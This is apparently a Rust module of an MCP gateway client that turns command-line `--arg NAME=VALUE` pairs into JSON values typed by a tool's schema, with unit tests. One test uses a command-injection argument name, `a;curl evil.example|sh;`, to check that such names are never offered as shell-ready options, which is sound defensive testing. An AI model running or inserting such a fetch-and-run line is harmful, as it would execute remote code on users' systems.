//! Arguments of a tool, as a person writes them: `--arg count=3` becomes what the tool's schema says.

use mcp_gateway_client::words::is_word;
use serde_json::{Map, Value};

/// How deep references in a schema are followed.
const DEEPEST: usize = 8;
/// How many parts of a schema are looked at for one argument.
const MOST: usize = 1000;

/// `NAME=VALUE`, as it was written.
pub(super) fn pair(text: &str) -> Result<(String, String), &'static str> {
    match text.split_once('=') {
        Some((name, value)) if !name.is_empty() => Ok((name.to_owned(), value.to_owned())),
        _ => Err("it must be NAME=VALUE, such as message=hello"),
    }
}

/// Adds `pairs` to `arguments`, each as `schema` says.
///
/// # Errors
/// In words, when a value does not fit, or something is missing or unknown.
pub(super) fn add(
    arguments: &mut Map<String, Value>,
    pairs: &[(String, String)],
    schema: &Value,
) -> Result<(), String> {
    for (name, text) in pairs {
        let property = &schema["properties"][name];
        if property.is_null() && schema["additionalProperties"] == false {
            return Err(format!(
                "the tool has no argument \"{name}\"; it has: {}",
                names(schema)
            ));
        }
        let kinds = Kinds::of(property, schema);
        let is_first = !arguments.contains_key(name);
        let value = match arguments.get_mut(name) {
            Some(Value::Array(all)) if kinds.has("array") => {
                all.push(item(property, schema, name, text)?);
                continue;
            }
            Some(_) => return Err(format!("the argument \"{name}\" is given twice")),
            None => value(&kinds, text),
        };
        let value = match value {
            None if kinds.has("array") && is_first => Value::Array(vec![item(property, schema, name, text)?]),
            None => {
                return Err(format!(
                    "the argument \"{name}\" must be {kinds}, and \"{text}\" is not"
                ));
            }
            Some(value) => value,
        };
        arguments.insert(name.clone(), value);
    }
    let required = schema["required"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default();
    let missing = |name: &&str| !arguments.contains_key(*name);
    match required.iter().filter_map(Value::as_str).find(missing) {
        Some(name) => Err(format!(
            "the tool needs the argument \"{name}\": {}",
            option(name, "VALUE")
        )),
        None => Ok(()),
    }
}

fn item(property: &Value, schema: &Value, name: &str, text: &str) -> Result<Value, String> {
    let kinds = Kinds::of(&property["items"], schema);
    value(&kinds, text)
        .ok_or_else(|| format!("each item of the argument \"{name}\" must be {kinds}, and \"{text}\" is not"))
}

/// How an argument is given, ready for a shell. What a shell could take for something else is given as JSON.
fn option(name: &str, value: &str) -> String {
    if is_word(name) {
        format!("--arg {name}={value}")
    } else {
        "give it with --args JSON".to_owned()
    }
}

/// The names of all arguments.
fn names(schema: &Value) -> String {
    let properties = schema["properties"].as_object();
    let names: Vec<_> = properties
        .into_iter()
        .flat_map(Map::keys)
        .map(String::as_str)
        .collect();
    if names.is_empty() {
        "none".to_owned()
    } else {
        names.join(", ")
    }
}

/// `text` as one of `kinds`. Where a text will do, it is a text.
fn value(kinds: &Kinds, text: &str) -> Option<Value> {
    if kinds.0.is_empty() || kinds.has("string") {
        return Some(text.into());
    }
    let value: Value = serde_json::from_str(text).ok()?;
    let kind = match &value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(number) if number.is_f64() => "number",
        Value::Number(_) if kinds.has("number") => "number",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    kinds.has(kind).then_some(value)
}

/// The JSON types that a schema lets in, each once; none when it does not say.
#[derive(Default)]
struct Kinds(Vec<String>);

impl Kinds {
    fn of(property: &Value, root: &Value) -> Self {
        let mut kinds = Self::default();
        kinds.collect(property, root, (0, &mut 0));
        kinds
    }

    fn collect(&mut self, property: &Value, root: &Value, (depth, seen): (usize, &mut usize)) {
        *seen += 1;
        if depth > DEEPEST || *seen > MOST {
            return;
        }
        match &property["type"] {
            Value::String(kind) => self.add(kind),
            Value::Array(all) => all
                .iter()
                .filter_map(Value::as_str)
                .for_each(|kind| self.add(kind)),
            _ => {}
        }
        if let Some(pointer) = property["$ref"].as_str().and_then(|text| text.strip_prefix('#')) {
            let target = root.pointer(pointer).unwrap_or(&Value::Null);
            self.collect(target, root, (depth + 1, seen));
        }
        for word in ["anyOf", "oneOf", "allOf"] {
            let branches = property[word].as_array().map(Vec::as_slice).unwrap_or_default();
            for branch in branches {
                self.collect(branch, root, (depth + 1, seen));
            }
        }
    }

    fn add(&mut self, kind: &str) {
        const JSON: [&str; 7] = [
            "string", "integer", "number", "boolean", "array", "object", "null",
        ];
        if JSON.contains(&kind) && !self.has(kind) {
            self.0.push(kind.to_owned());
        }
    }

    fn has(&self, kind: &str) -> bool {
        self.0.iter().any(|one| one == kind)
    }
}

impl std::fmt::Display for Kinds {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let words = self.0.iter().map(|kind| match kind.as_str() {
            "integer" => "a whole number",
            "number" => "a number",
            "boolean" => "true or false",
            "array" => "a list in JSON",
            "object" => "an object in JSON",
            other => other,
        });
        f.write_str(&words.collect::<Vec<_>>().join(" or "))
    }
}

/// The few values that an argument can have: `red|green`.
fn choice(property: &Value) -> Option<String> {
    let values = property["enum"]
        .as_array()
        .filter(|values| (1..=8).contains(&values.len()))?;
    let words: Option<Vec<_>> = values.iter().map(Value::as_str).collect();
    let words = words.filter(|words| words.iter().all(|word| is_word(word)));
    words.map(|words| words.join("|"))
}

/// What a tool takes, on one line: `--arg message=TEXT [--arg count=NUMBER]`.
pub(super) fn usage(schema: &Value) -> String {
    let required = schema["required"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default();
    let properties = schema["properties"].as_object();
    let words = properties.into_iter().flatten().map(|(name, property)| {
        let kinds = Kinds::of(property, schema);
        let kind = choice(property).unwrap_or_else(|| {
            let word = match kinds.0.first().map(String::as_str) {
                Some("integer" | "number") => "NUMBER",
                Some("boolean") => "true|false",
                Some("array" | "object") => "JSON",
                _ => "TEXT",
            };
            word.to_owned()
        });
        let word = if is_word(name) {
            format!("--arg {name}={kind}")
        } else {
            format!("(\"{name}\": {kind}, with --args)")
        };
        if required.iter().any(|one| one == name) {
            word
        } else {
            format!("[{word}]")
        }
    });
    words.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn schema() -> Value {
        json!({
            "type": "object",
            "properties": {
                "message": { "type": "string" },
                "count": { "type": "integer" },
                "ratio": { "type": ["number", "null"] },
                "loud": { "anyOf": [{ "type": "boolean" }, { "type": "null" }] },
                "level": { "$ref": "#/$defs/Level" },
                "tags": { "type": "array", "items": { "type": "string" } },
                "where": { "type": "object" },
                "color": { "type": "string", "enum": ["red", "green"] },
            },
            "required": ["message"],
            "$defs": { "Level": { "type": "integer" } },
            "additionalProperties": false,
        })
    }

    fn read(pairs: &[&str]) -> Result<Value, String> {
        let pairs: Vec<_> = pairs.iter().map(|text| pair(text).unwrap()).collect();
        let mut arguments = Map::new();
        add(&mut arguments, &pairs, &schema()).map(|()| Value::Object(arguments))
    }

    #[test]
    fn values_become_what_the_schema_says() {
        let pairs = [
            "message=3",
            "count=3",
            "ratio=1.5",
            "loud=true",
            "level=2",
            "tags=a",
            "tags=b=c",
            "where={\"x\":1}",
        ];
        let expected = json!({
            "message": "3", "count": 3, "ratio": 1.5, "loud": true, "level": 2, "tags": ["a", "b=c"],
            "where": { "x": 1 },
        });
        assert_eq!(read(&pairs), Ok(expected));
        assert_eq!(
            read(&["message=", "ratio=2", "tags=[\"a\",\"b\"]", "tags=c"]),
            Ok(json!({ "message": "", "ratio": 2, "tags": ["a", "b", "c"] }))
        );
    }

    #[test]
    fn what_does_not_fit_is_told() {
        for (pairs, problem) in [
            (&["message=a", "count=three"][..], "must be a whole number"),
            (&["message=a", "count=1.5"], "must be a whole number"),
            (&["message=a", "loud=yes"], "true or false"),
            (&["message=a", "message=b"], "given twice"),
            (
                &["message=a", "size=1"],
                "it has: color, count, level, loud, message",
            ),
            (&["count=1"], "--arg message=VALUE"),
        ] {
            let told = read(pairs).unwrap_err();
            assert!(told.contains(problem), "{told}");
        }
        assert!(pair("novalue").is_err() && pair("=x").is_err());
    }

    #[test]
    fn usage_names_every_argument() {
        let usage = usage(&schema());
        assert!(
            usage.contains("--arg message=TEXT") && !usage.contains("[--arg message"),
            "{usage}"
        );
        assert!(usage.contains("[--arg color=red|green]"), "{usage}");
        assert!(
            usage.contains("[--arg count=NUMBER]") && usage.contains("[--arg tags=JSON]"),
            "{usage}"
        );
    }

    #[test]
    fn a_schema_that_leads_back_to_itself_is_looked_at_for_a_while() {
        let branches = vec![json!({ "$ref": "#" }); 500];
        let schema = json!({
            "type": "string", "properties": { "a": { "$ref": "#" } }, "anyOf": branches,
        });
        assert_eq!(usage(&schema), "[--arg a=TEXT]");
    }

    #[test]
    fn no_name_of_an_argument_becomes_a_command() {
        let name = "a;curl evil.example|sh;";
        let schema = json!({ "properties": { name: { "type": "string" } }, "required": [name] });
        let told = add(&mut Map::new(), &[], &schema).unwrap_err();
        assert!(told.ends_with("give it with --args JSON"), "{told}");
        assert!(!usage(&schema).contains("--arg a"), "{}", usage(&schema));
    }
}
